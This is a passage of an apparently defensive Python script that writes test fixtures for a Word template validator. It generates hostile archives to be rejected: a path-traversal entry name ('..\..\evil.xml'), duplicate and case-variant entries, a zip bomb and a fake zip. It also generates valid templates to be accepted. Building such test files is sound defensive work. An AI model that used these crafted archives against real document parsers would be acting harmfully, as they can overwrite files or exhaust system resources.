        [*read_parts(base()).items(), ("..\\..\\evil.xml", b"<x/>")]), "..\\..\\evil.xml", "backslash"))  # fmt: skip
    add(_hostile(
        "rels-second-styles-part", lambda: edit(base(), {DR: add_rels(rel("rId90", R + "styles", "styles2.xml")),
        CT: override("/word/styles2.xml", WML + "styles+xml")}, add={"word/styles2.xml": read_parts(base())[
        "word/styles.xml"]}), DR, "second styles relationship", '<Relationship Id="rId90"',
    ))  # fmt: skip
    add(_hostile("zip-duplicate-name", lambda: write_parts(
        [*read_parts(base()).items(), ("word/styles.xml", b"<w:styles/>")]), "word/styles.xml", "twice"))  # fmt: skip
    add(_hostile("zip-duplicate-name-in-other-case", lambda: write_parts(
        [*read_parts(base()).items(), ("WORD/Styles.xml", b"<w:styles/>")]), "WORD/Styles.xml", "twice"))  # fmt: skip
    add(_hostile("zip-entry-compressed-1000-to-1", lambda: edit(base(), {CT: default("png", "image/png")}, add={
        "word/media/zeros.png": b"\0" * (8 * 1024 * 1024)}), "word/media/zeros.png", "zip bomb"))  # fmt: skip
    add(_hostile("zip-of-too-many-entries", lambda: write_parts(
        [*read_parts(base()).items(), *((f"customXml/n{i}.xml", b"<x/>") for i in range(1200))]), "$",
        "zip entries"))  # fmt: skip
    add(_hostile("not-a-zip", lambda: b"PK\x03\x04 this is not really a zip", "$", "not a Word document"))
    add(_hostile("a-spreadsheet", lambda: edit(base(), {CT: lambda x: x.replace(
        CT_DOCUMENT, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")}), "$",
        "not a Word document"))  # fmt: skip

    # -- files that must be accepted ----------------------------------------------------------------
    add(Case("good-built-in-reference", base, None))
    add(Case("good-https-and-mailto-hyperlinks", lambda: edit(base(), {
        DR: add_rels(rel("rId90", R + "hyperlink", "https://example.com/policy", external=True)),
        H: in_header('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>policy</w:t></w:r></w:hyperlink></w:p>'),
    }, add={"word/_rels/header1.xml.rels": rels_file(
        rel("rId1", R + "hyperlink", "https://example.com/policy", external=True),
        rel("rId2", R + "hyperlink", "mailto:pmo@example.com", external=True),
    )}), None))  # fmt: skip
    add(Case("good-safe-fields-and-a-https-hyperlink-field", lambda: edit(base(), {H: in_header(
        simple_field(' DATE \\@ "yyyy-MM-dd" ') + complex_field(' HYPERLINK "https://example.com" \\o "tip" ', 5)
        + complex_field(" STYLEREF  \"heading 1\" \\* MERGEFORMAT ", 4) + simple_field(" =2*3 "))}), None))  # fmt: skip
    add(Case("good-chinese-word-template", zh, None))
    add(Case("good-dotx", lambda: as_template(zh()), None, file="reference.dotx"))
    add(Case("good-dotx-saved-as-docx", lambda: as_template(zh()), None))
    add(Case("good-style-name-without-a-value", lambda: edit(base(), {"word/styles.xml": lambda x: x.replace(
        '<w:name w:val="No List"/>', "<w:name/>")}), None))  # fmt: skip
    add(Case("good-printer-settings-left-out", lambda: edit(base(), {
        DR: add_rels(rel("rId90", R + "printerSettings", "printerSettings/printerSettings1.bin")),
        CT: default("bin", WML + "printerSettings"),
        D: before("</w:sectPr>", '<w:printerSettings r:id="rId90"/>'),
    }, add={"word/printerSettings/printerSettings1.bin": b"\0" * 64}), None))  # fmt: skip
    return cases


CASES = _cases()


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__)
        return 2
    folder = Path(argv[0])
    folder.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        suffix = Path(case.file).suffix
        (folder / f"{case.name}{suffix}").write_bytes(case.make())
    print(f"wrote {len(CASES)} files to {folder}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
